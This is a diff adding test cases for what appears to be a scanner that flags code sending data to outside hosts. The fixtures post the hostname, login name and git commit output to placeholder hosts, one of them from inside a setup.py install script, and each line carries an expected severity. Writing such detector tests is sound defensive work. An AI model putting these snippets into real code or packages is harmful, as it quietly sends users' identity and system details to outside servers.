@@ -35,6 +35,21 @@ CASES = [
      "r = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
      "requests.post('https://c.example.net/r', data=r)\n",
      {3: "high", 5: "medium"}),
+    ("login-name-in-query-params-high", HOST, "m.py",
+     "import getpass, platform, requests\n"
+     "info = {'n': platform.node(), 'u': getpass.getuser()}\n"
+     "requests.get('https://t.example.net/t', params=info)\n"
+     "requests.get('https://t.example.net/t', params={'n': platform.node()})\n"
+     "requests.post('https://t.example.net/t', json=info)\n",
+     {3: "high", 4: "medium", 5: "medium"}),
+    ("setup-py-sends-identity-high", HOST, "pkg/setup.py",
+     "import platform, requests\n"
+     "requests.post('https://t.example.net/i', json={'n': platform.node()})\n",
+     {2: "high"}),
+    ("same-code-outside-setup-py-medium", HOST, "pkg/telemetry.py",
+     "import platform, requests\n"
+     "requests.post('https://t.example.net/i', json={'n': platform.node()})\n",
+     {2: "medium"}),
     ("js-whoami-output-is-the-login-name", HOST, "m.js",
      "const { execSync } = require('child_process');\n"
      "const who = execSync('whoami').toString().trim();\n"
